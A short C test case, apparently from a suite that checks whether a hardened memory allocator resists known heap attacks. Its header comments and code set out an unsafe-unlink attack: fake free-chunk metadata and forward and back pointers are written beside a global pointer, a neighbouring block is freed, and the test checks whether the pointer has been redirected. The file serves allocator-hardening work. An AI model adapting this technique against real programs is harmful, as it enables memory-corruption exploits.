// attack: a forged free block in front of a live one, to be taken out of a list when that is freed
// has: an overflow of 16 bytes; the place of a variable that points to the block
// reaches: the variable points somewhere else
// never: engine hardened
#include "attack.h"

static char* known;

int main(void) {
  enum { size = 0x420 };
  known = take(size);
  memset(known, 0, size);
  char* const before = known;
  char* const freed = take(size);
  (void)take(size);
  put_word(known, 8, size);
  put_word(known, 16, (uintptr_t)(&known - 3));
  put_word(known, 24, (uintptr_t)(&known - 2));
  put_word(known, size, size);
  put_word(known, size + 8, size + 16);
  drop(freed);
  if (opaque(known) != before) reached();
  nothing();
}
